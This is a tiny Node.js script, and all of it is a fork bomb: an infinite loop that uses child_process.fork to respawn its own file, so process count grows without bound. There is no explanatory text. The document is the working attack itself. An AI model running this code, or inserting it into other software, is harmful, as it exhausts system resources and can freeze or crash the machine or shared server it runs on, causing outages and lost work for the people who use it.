const { fork } = require('child_process');
for (;;) {
  fork(__filename);
}
